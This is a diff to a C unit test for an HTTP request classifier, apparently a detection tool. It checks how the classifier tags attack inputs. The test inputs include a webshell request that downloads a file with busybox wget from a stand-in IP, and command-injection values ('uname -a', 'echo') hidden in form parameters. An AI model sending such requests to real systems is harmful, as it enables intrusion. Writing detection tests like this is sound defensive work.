@@ -1127,6 +1127,16 @@ static void test_commands_kinds(void **state)
     classify_str("GET /cmd.php?cmd=busybox%20wget%20http://192.0.2.4/x HTTP/1.1\r\n\r\n", &w);
     assert_true(has_class(&w, "webshell"));
     assert_string_equal(w.commands, "busybox wget http://192.0.2.4/x");
+
+    /* a PHP-serialized parameter is data: the generic extractor takes no command from its
+     * semicolons (the class stays: ;echo is a shell command too); the next parameter's does count */
+    classify_str("POST /x.php HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
+                 "cfg=a%3A1%3A%7Bs%3A1%3A%22h%22%3Bs%3A9%3A%22%27%3Becho+%27x%22%3B%7D", &w);
+    assert_true(has_class(&w, "command-injection"));
+    assert_int_equal(w.commands_len, 0);
+    classify_str("POST /x.php HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
+                 "cfg=a%3A1%3A%7Bs%3A1%3A%22h%22%3B%7D&host=x%3Buname+-a", &w);
+    assert_string_equal(w.commands, "uname -a");
 }
 
 static void test_union(void **state)
